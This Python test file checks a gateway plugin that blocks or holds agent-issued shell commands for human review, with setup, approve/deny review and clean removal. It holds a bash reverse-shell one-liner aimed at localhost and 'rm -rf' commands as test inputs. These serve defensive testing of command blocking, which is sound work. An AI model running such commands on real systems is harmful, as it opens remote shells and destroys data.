"""From a gateway that knows nothing of clawgate to the first blocked command, and back, with OpenClaw's own program.

The daemon runs as a sidecar too, so that `clawgate review` also answers what our plugin asks in OpenClaw.
"""

import json
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest

from gw.cli.main import run
from tests.support.lab import Lab, lab
from tests.support.serving import Serving, serving
from tests.support.waiting import until

pytestmark = [pytest.mark.openclaw, pytest.mark.lab]

REVERSE_SHELL = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"  # nobody listens there


class Machine:
    def __init__(self, folder: Path, stack: ExitStack) -> None:
        self.lab: Lab = stack.enter_context(lab("setup"))
        self.program = str(self.lab.program(folder))
        token = folder / "upstream-token"
        token.write_text(self.lab.token)
        token.chmod(0o600)
        flags = ["--upstream", self.lab.url, "--upstream-token-file", str(token)]
        self.daemon: Serving = stack.enter_context(serving(folder / "gw", *flags, mode="sidecar"))

    def openclaw(self, *arguments: str) -> int:
        return run(["openclaw", arguments[0], "--openclaw", self.program, *arguments[1:]])

    def document(self) -> dict[str, Any]:
        """OpenClaw's configuration without what it writes about itself."""
        document = json.loads(self.lab.config.read_text())
        return {name: value for name, value in document.items() if name != "meta"}

    def status(self) -> dict[str, Any]:
        with self.daemon.client() as client:
            block: dict[str, Any] = client.call("status")["clawgate"]
            return block

    def held(self) -> list[dict[str, Any]]:
        with self.daemon.client() as client:
            rows: list[dict[str, Any]] = client.call("security.review.list")["held"]
            return rows


@pytest.fixture(scope="module")
def machine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Machine]:
    with ExitStack() as stack:
        yield Machine(tmp_path_factory.mktemp("setup"), stack)


def test_from_nothing_to_the_first_blocked_command_and_back(
    machine: Machine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = machine.document()
    marker = tmp_path / "MARKER"
    gateway = ["--listen", str(machine.daemon.address), "--state", str(machine.daemon.state)]
    assert run(["doctor", "--openclaw", machine.program, *gateway, "--json"]) == 1
    assert json.loads(capsys.readouterr().out)["posture"] == "open"

    assert machine.openclaw("setup", "--socket", str(machine.daemon.state / "plugin.sock"), "--yes") == 0
    assert '"clawgate": {' in capsys.readouterr().out
    assert machine.openclaw("status") == 0
    until(lambda: (machine.status()["plugin"] or {}).get("canary"))  # the running gateway has loaded it

    shown = machine.lab.turn(f"[[exec touch {marker}; {REVERSE_SHELL}]]")
    assert "clawgate: blocked" in shown and not marker.exists()
    until(lambda: "plugin" in machine.status()["sidecar"]["gates"])

    # OpenClaw asks its people; who answers by `clawgate review` is one of them
    for verb, ran in (("deny", False), ("approve", True)):
        machine.lab.send(f"[[exec touch {marker}; rm -rf ~/x-{verb}]]")
        [row] = until(machine.held)
        until(lambda: machine.status()["sidecar"]["waiting"] == 1)
        assert not marker.exists()
        turns = len(machine.lab.tool_results())
        assert run(["review", verb, row["id"], *gateway]) == 0
        machine.lab.wait_for_result(turns)
        assert marker.exists() is ran
    assert machine.status()["coverage"]["unguarded"] == 0

    assert machine.openclaw("remove", "--yes") == 0
    assert machine.document() == before
    assert machine.openclaw("status") == 1
